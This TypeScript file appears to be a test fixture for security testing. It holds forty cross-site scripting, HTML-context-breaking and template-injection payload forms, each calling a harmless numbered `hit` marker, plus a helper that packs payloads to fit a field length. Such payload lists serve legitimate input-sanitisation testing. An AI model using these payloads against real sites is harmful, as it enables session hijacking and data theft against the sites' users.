/** Forty strings that have run as script, markup, style or template somewhere. Each calls `hit` with its number. */

const canary = '//canary.invalid';

const FORMS: readonly ((hit: string) => string)[] = [
  (hit) => `<script>${hit}</script>`,
  (hit) => `"><script>${hit}</script>`,
  (hit) => `'><script>${hit}</script>`,
  (hit) => `<img src=x onerror=${hit}>`,
  (hit) => `"><img src=x onerror="${hit}">`,
  (hit) => `<svg onload=${hit}>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  (hit) => `<iframe src="javascript:parent.${hit}"></iframe>`,
  (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit) => `<a href="javascript:${hit}">click</a>`,
  (hit) => `javascript:${hit}`,
  (hit) => `JaVaScRiPt:${hit}//https://a.example/`,
  (hit) => `java\tscript:${hit}`,
  (hit) => `data:text/html,<script>opener.${hit}</script>`,
  (hit) => `vbscript:${hit}`,
  (hit) => `' onmouseover='${hit}' x='`,
  (hit) => `" autofocus onfocus="${hit}" x="`,
  (hit) => `<input autofocus onfocus=${hit}>`,
  (hit) => `<body onload=${hit}>`,
  (hit) => `<details open ontoggle=${hit}>`,
  (hit) => `<video><source onerror=${hit}></video>`,
  (hit) => `<math><a xlink:href="javascript:${hit}">x</a></math>`,
  (hit) => `<object data="javascript:${hit}"></object>`,
  (hit) => `<form action="javascript:${hit}"><button>go</button></form>`,
  (hit) => `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  (hit) => `<base href=${canary}/><script>${hit}</script>`,
  (hit) => `<link rel=stylesheet href=${canary}/a.css onload=${hit}>`,
  (hit) => `<style>@import '${canary}/b.css';</style><p style="background:url(${canary}/${hit})">`,
  (hit) => `</title></textarea></style></script><script>${hit}</script>`,
  (hit) => `--><script>${hit}</script><!--`,
  (hit) => `]]><script>${hit}</script>`,
  (hit) => `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  (hit) => `<scr<script>ipt>${hit}</scr</script>ipt>`,
  (hit) => `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
  (hit) => `&lt;script&gt;${hit}&lt;/script&gt; %3Cscript%3E${hit}%3C/script%3E`,
  (hit) => `{{constructor.constructor('${hit}')()}}`,
  (hit) => `\${${hit}} #{${hit}} <%= ${hit} %>`,
  (hit) => `=HYPERLINK("javascript:${hit}","x")`,
  (hit) => `__proto__ constructor \u202e${hit}\u2066 <template><script>${hit}</script>`,
];

export const PAYLOADS: readonly string[] = FORMS.map((form, i) => form(`hit(${i + 1})`));

/** As many payloads as a field of this length takes, beginning with a given one. */
export function fitting(length: number, from: number): string {
  let text = '';
  for (let i = 0; i < PAYLOADS.length; i++) {
    const next = PAYLOADS[(from + i) % PAYLOADS.length] ?? '';
    if (text.length + next.length + 1 <= length) text += `${next} `;
  }
  return text.trim();
}
